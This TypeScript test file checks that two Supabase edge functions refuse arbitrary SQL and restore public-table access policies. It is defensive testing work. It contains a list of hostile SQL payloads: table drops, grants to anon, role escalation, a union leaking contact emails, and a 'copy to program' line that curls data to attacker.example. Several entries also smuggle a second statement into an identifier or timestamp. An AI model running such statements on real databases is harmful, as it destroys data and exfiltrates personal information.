/**
 * `exec-sql` and `add-public-rls` (spec calls 13 and 15) as DESIGN.md decision
 * 4 has them: idempotent, acting only on the four public tables, and never
 * running SQL a caller sends. A corpus of hostile requests is refused (403, or
 * 400 when malformed) and the schema, policies, grants and data are the same
 * afterwards; the site's own statements succeed, change nothing when access is
 * in place, and restore exactly the migration's state when it is not.
 */
import { FunctionsHttpError } from "@supabase/supabase-js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  EXEC_SQL_REFUSED,
  KNOWLEDGE_PUBLIC_READ_STATEMENTS,
  PUBLIC_READ_TABLES,
  publicReadStatement,
} from "#kernel/schemas/public-read.ts";
import { anonClient, createUser, sql, sqlScript, stack, type TestUser } from "../../support/stack";

interface CallResult {
  status: number;
  body: { success?: boolean; error?: string; tables?: { table: string; restored: string[] }[] };
}

async function call(name: string, body: unknown, client = anonClient()): Promise<CallResult> {
  const { data, error } = await client.functions.invoke(name, { body: body as Record<string, unknown> });
  if (error instanceof FunctionsHttpError)
    return { status: error.context.status as number, body: (await error.context.json()) as CallResult["body"] };
  if (error) throw error;
  return { status: 200, body: data as CallResult["body"] };
}

/** A raw request, for bodies supabase-js would not send (bad JSON, other methods). */
async function raw(name: string, init: RequestInit): Promise<CallResult> {
  const response = await fetch(`${stack().url}/functions/v1/${name}`, {
    ...init,
    headers: {
      apikey: stack().anonKey,
      Authorization: `Bearer ${stack().anonKey}`,
      "Content-Type": "application/json",
      ...init.headers,
    },
  });
  return { status: response.status, body: (await response.json().catch(() => ({}))) as CallResult["body"] };
}

/** Everything a hostile request could try to change: schema, RLS, policies, grants, roles, functions and data. */
async function databaseState() {
  const [policies, grants, rls, tables, functions, roles, counts] = await Promise.all([
    sql(`select schemaname, tablename, policyname, permissive, roles::text as roles, cmd, qual, with_check
           from pg_policies order by schemaname, tablename, policyname`),
    sql(`select grantor, grantee, table_schema, table_name, privilege_type, is_grantable
           from information_schema.role_table_grants
          where table_schema in ('public', 'private', 'auth', 'storage')
          order by table_schema, table_name, grantee, privilege_type`),
    sql(`select n.nspname as schema, c.relname as table, c.relrowsecurity, c.relforcerowsecurity
           from pg_class c join pg_namespace n on n.oid = c.relnamespace
          where c.relkind in ('r', 'p') and n.nspname in ('public', 'private', 'auth', 'storage')
          order by 1, 2`),
    sql(`select table_schema, table_name, table_type from information_schema.tables
          where table_schema not in ('pg_catalog', 'information_schema') order by 1, 2`),
    sql(`select n.nspname as schema, p.proname, pg_get_function_identity_arguments(p.oid) as args,
                p.prosecdef, coalesce(p.proacl::text, '') as acl
           from pg_proc p join pg_namespace n on n.oid = p.pronamespace
          where n.nspname in ('public', 'private') order by 1, 2, 3`),
    sql(`select rolname, rolsuper, rolcreaterole, rolcreatedb, rolbypassrls, rolcanlogin, rolinherit
           from pg_roles order by rolname`),
    sql(`select (select count(*) from public.knowledge_articles) as articles,
                (select count(*) from public.knowledge_articles where published) as published,
                (select count(*) from public.knowledge_categories) as categories,
                (select count(*) from public.industries) as industries,
                (select count(*) from public.revenue_ranges) as revenue_ranges,
                (select count(*) from public.quotes) as quotes,
                (select md5(string_agg(id::text || title || content, ',' order by id)) from public.knowledge_articles) as article_digest`),
  ]);
  return { policies, grants, rls, tables, functions, roles, counts };
}

const categoriesStatement = publicReadStatement("knowledge_categories");
const articlesStatement = publicReadStatement("knowledge_articles");

/** Requests that are well-formed JSON but are not the site's own statement: each must be refused with 403. */
const hostileSql: Record<string, string> = {
  "drop a table": "drop table public.quotes;",
  "drop with cascade": "drop table public.knowledge_articles cascade",
  truncate: "truncate public.knowledge_articles",
  "grant to anon": "grant all on public.quotes to anon;",
  "grant on everything": "grant all on all tables in schema public to anon, authenticated",
  revoke: "revoke select on public.knowledge_articles from anon",
  "create policy on quotes": 'create policy "leak" on public.quotes for select to anon using (true);',
  "create policy exposing drafts": 'create policy "leak" on public.knowledge_articles for select to anon using (true);',
  "alter role": "alter role anon with superuser bypassrls;",
  "alter role authenticator": "alter role authenticator set role = 'service_role'",
  "set role": "set role service_role; select * from public.quotes",
  "select from quotes": "select * from public.quotes",
  "select personal data through a union":
    "select id, title from public.knowledge_articles union select id::text, contact_email from public.quotes",
  "update articles": "update public.knowledge_articles set published = true",
  "delete articles": "delete from public.knowledge_articles",
  "insert an article": "insert into public.knowledge_articles (title, slug, published) values ('x', 'x-x', true)",
  "multiple statements": "select 1; drop table public.quotes;",
  "do block": "do $$ begin execute 'drop table public.quotes'; end $$;",
  "copy to program": "copy public.quotes to program 'curl -d @- https://attacker.example'",
  "replace the security definer function":
    "create or replace function public.ensure_public_read(target_table text) returns jsonb language sql as $$ select '{}'::jsonb $$",
  "disable row level security": "alter table public.knowledge_articles disable row level security",
  "allowed statement then a drop": `${categoriesStatement} drop table public.quotes;`,
  "allowed statement then a grant": `${articlesStatement}\ngrant all on public.quotes to anon;`,
  "allowed statement with a trailing comment": `${categoriesStatement} -- trailing comment`,
  "allowed statement with a comment inside": categoriesStatement.replace(
    "; create policy",
    "; /* anything */ create policy",
  ),
  "allowed statement hiding a drop in a comment break": `${categoriesStatement}--\ndrop table public.quotes`,
  "allowed statement with a prefix": `drop table public.quotes; ${categoriesStatement}`,
  "the allowed shape on quotes": categoriesStatement.replaceAll("knowledge_categories", "quotes"),
  "the allowed shape on analytics": articlesStatement.replaceAll("knowledge_articles", "analytics_events"),
  "the allowed shape on another schema": categoriesStatement.replaceAll("public.", "auth."),
  "the allowed shape on auth.users": articlesStatement.replaceAll("public.knowledge_articles", "auth.users"),
  "the articles statement made to expose drafts": articlesStatement.replace("using (published)", "using (true)"),
  "the articles statement with a wider role": articlesStatement.replace("to anon", "to public"),
  "the allowed shape with another policy name": categoriesStatement.replace("Anyone can read categories", "x"),
  "the allowed statement in capitals": categoriesStatement.toUpperCase(),
  "only the enable half": "alter table public.knowledge_categories enable row level security;",
  "a quoted identifier trick": categoriesStatement.replace(
    "public.knowledge_categories for",
    'public."knowledge_categories"; drop table public.quotes; --" for',
  ),
};

/** Bodies that are not the request's shape at all: 400 with a message. */
const malformedBodies: Record<string, unknown> = {
  "empty object": {},
  "sql not a string": { sql: 1 },
  "sql an array": { sql: [categoriesStatement] },
  "empty sql": { sql: "" },
  "oversized sql": { sql: `${categoriesStatement} ${"-- ".repeat(1000)}` },
  "an extra field": { sql: categoriesStatement, role: "service_role" },
  "a query field instead": { query: "drop table public.quotes" },
};

let before: Awaited<ReturnType<typeof databaseState>>;
let visitor: TestUser;

beforeAll(async () => {
  before = await databaseState();
  visitor = await createUser();
});

afterAll(async () => {
  // Whatever happened above, the database must be as the migrations left it.
  expect(await databaseState()).toEqual(before);
});

describe("exec-sql refuses everything but the site's own statement", () => {
  it.each(Object.entries(hostileSql))("refuses %s with 403 and a clear message", async (_name, statement) => {
    const result = await call("exec-sql", { sql: statement });
    expect(result).toEqual({
      status: 403,
      body: { success: false, error: EXEC_SQL_REFUSED, code: "statement_not_allowed" },
    });
  });

  it("refuses a null byte with 400 before reading the statement, as every function refuses text Postgres cannot store", async () => {
    const result = await call("exec-sql", { sql: `${categoriesStatement}\u0000drop table public.quotes` });
    expect(result.status).toBe(400);
    expect(result.body).toMatchObject({ success: false, code: "invalid_text" });
  });

  it.each(Object.entries(malformedBodies))("answers a malformed body (%s) with 400", async (_name, body) => {
    const result = await call("exec-sql", body);
    expect(result.status).toBe(400);
    expect(result.body.error).toEqual(expect.any(String));
  });

  it("answers bad JSON, a JSON array and a bare string with 400, and GET with 405", async () => {
    expect((await raw("exec-sql", { method: "POST", body: "{sql: drop" })).status).toBe(400);
    expect((await raw("exec-sql", { method: "POST", body: JSON.stringify([categoriesStatement]) })).status).toBe(400);
    expect((await raw("exec-sql", { method: "POST", body: JSON.stringify(categoriesStatement) })).status).toBe(400);
    expect((await raw("exec-sql", { method: "GET" })).status).toBe(405);
  });

  it("refuses a signed-in user's hostile SQL just the same", async () => {
    const result = await call("exec-sql", { sql: "grant all on public.quotes to authenticated" }, visitor.client);
    expect(result.status).toBe(403);
  });

  it("refuses callers without the project's key", async () => {
    const response = await fetch(`${stack().url}/functions/v1/exec-sql`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ sql: categoriesStatement }),
    });
    expect(response.status).toBe(401);
  });

  it("left the tables, policies, grants, roles, functions and rows exactly as they were", async () => {
    expect(await databaseState()).toEqual(before);
  });
});

describe("add-public-rls takes only a timestamp", () => {
  const now = () => new Date().toISOString();
  const hostileBodies: Record<string, unknown> = {
    "no timestamp": {},
    "a timestamp that is SQL": { timestamp: "2026-01-01'; drop table public.quotes; --" },
    "a number": { timestamp: Date.now() },
    "a date without a time": { timestamp: "2026-11-21" },
    "an extra sql field": { timestamp: now(), sql: "drop table public.quotes" },
    "an extra table field": { timestamp: now(), table: "quotes" },
    "a list of tables": { timestamp: now(), tables: ["quotes", "analytics_events"] },
  };

  it.each(Object.entries(hostileBodies))("answers %s with 400", async (_name, body) => {
    const result = await call("add-public-rls", body);
    expect(result.status).toBe(400);
    expect(result.body).toMatchObject({ success: false, error: expect.any(String) });
  });

  it("answers bad JSON with 400", async () => {
    expect((await raw("add-public-rls", { method: "POST", body: "not json" })).status).toBe(400);
  });

  it("left everything exactly as it was", async () => {
    expect(await databaseState()).toEqual(before);
  });
});

describe("the site's own requests", () => {
  it("add-public-rls confirms all four public tables and changes nothing when access is in place", async () => {
    for (let attempt = 0; attempt < 2; attempt++) {
      const result = await call("add-public-rls", { timestamp: new Date().toISOString() });
      expect(result).toEqual({
        status: 200,
        body: { success: true, tables: PUBLIC_READ_TABLES.map((table) => ({ table, restored: [] })) },
      });
    }
    expect(await databaseState()).toEqual(before);
  });

  it("exec-sql accepts the spec's two statements, repeatedly, and changes nothing when access is in place", async () => {
    for (let attempt = 0; attempt < 2; attempt++) {
      for (const [index, statement] of KNOWLEDGE_PUBLIC_READ_STATEMENTS.entries()) {
        const result = await call("exec-sql", { sql: statement });
        const table = index === 0 ? "knowledge_categories" : "knowledge_articles";
        expect(result).toEqual({ status: 200, body: { success: true, tables: [{ table, restored: [] }] } });
      }
    }
    // White space is not significant: the same statement laid out over lines is the same request.
    const laidOut = categoriesStatement.replace("; ", ";\n  ").replaceAll(" ", "  ");
    expect((await call("exec-sql", { sql: laidOut })).status).toBe(200);
    expect(await databaseState()).toEqual(before);
  });

  it("exec-sql restores a dropped category policy exactly as the migration made it", async () => {
    await sql('drop policy "Anyone can read categories" on public.knowledge_categories');
    try {
      expect((await anonClient().from("knowledge_categories").select("id")).data).toEqual([]);
      const result = await call("exec-sql", { sql: categoriesStatement });
      expect(result.body).toEqual({
        success: true,
        tables: [{ table: "knowledge_categories", restored: ["policy"] }],
      });
      expect((await anonClient().from("knowledge_categories").select("id")).data!.length).toBeGreaterThan(0);
      expect(await databaseState()).toEqual(before);
    } finally {
      await sqlScript(`do $$ begin
        if not exists (select 1 from pg_policies where tablename = 'knowledge_categories' and policyname = 'Anyone can read categories') then
          create policy "Anyone can read categories" on public.knowledge_categories for select to anon, authenticated using (true);
        end if; end $$;`);
    }
  });

  it("exec-sql turns row level security back on for articles, hiding drafts again, and never exposes them", async () => {
    await sql("alter table public.knowledge_articles disable row level security");
    try {
      const exposed = await anonClient().from("knowledge_articles").select("id").eq("published", false);
      expect(exposed.data!.length, "without RLS the draft leaks: the test is meaningful").toBeGreaterThan(0);
      const result = await call("exec-sql", { sql: articlesStatement });
      expect(result.body).toEqual({
        success: true,
        tables: [{ table: "knowledge_articles", restored: ["row level security"] }],
      });
      expect((await anonClient().from("knowledge_articles").select("id").eq("published", false)).data).toEqual([]);
      expect(await databaseState()).toEqual(before);
    } finally {
      await sql("alter table public.knowledge_articles enable row level security");
    }
  });

  it("add-public-rls restores a revoked select grant and the dropped articles policy, published articles only", async () => {
    await sqlScript(`revoke select on public.industries from anon;
      drop policy "Visitors can read published articles" on public.knowledge_articles;`);
    try {
      expect((await anonClient().from("industries").select("id")).error?.code).toBe("42501");
      const result = await call("add-public-rls", { timestamp: new Date().toISOString() });
      expect(result.body.tables).toEqual([
        { table: "industries", restored: ["select grant"] },
        { table: "revenue_ranges", restored: [] },
        { table: "knowledge_categories", restored: [] },
        { table: "knowledge_articles", restored: ["policy"] },
      ]);
      expect((await anonClient().from("industries").select("id").limit(1)).data).toHaveLength(1);
      const visible = await anonClient().from("knowledge_articles").select("published");
      expect(visible.data!.length).toBeGreaterThan(0);
      expect(visible.data!.every((row) => row.published)).toBe(true);
      expect(await databaseState()).toEqual(before);
    } finally {
      await sqlScript(`grant select on public.industries to anon;
        do $$ begin
          if not exists (select 1 from pg_policies where tablename = 'knowledge_articles' and policyname = 'Visitors can read published articles') then
            create policy "Visitors can read published articles" on public.knowledge_articles for select to anon using (published);
          end if; end $$;`);
    }
  });

  it("keeps the database function out of visitors' and users' reach", async () => {
    for (const client of [anonClient(), visitor.client]) {
      const { error } = await client.rpc("ensure_public_read", { target_table: "knowledge_articles" });
      expect(error).not.toBeNull();
    }
    const [privileges] =
      await sql(`select has_function_privilege('anon', 'public.ensure_public_read(text)', 'execute') as anon,
        has_function_privilege('authenticated', 'public.ensure_public_read(text)', 'execute') as authenticated,
        has_function_privilege('service_role', 'public.ensure_public_read(text)', 'execute') as service_role`);
    expect(privileges).toEqual({ anon: false, authenticated: false, service_role: true });
  });

  it("the database function refuses any table but the four public ones, even for the service role", async () => {
    await expect(sql("select public.ensure_public_read('quotes')")).rejects.toThrow(/public tables/);
    await expect(sql("select public.ensure_public_read('auth.users')")).rejects.toThrow(/public tables/);
    expect(await databaseState()).toEqual(before);
  });
});
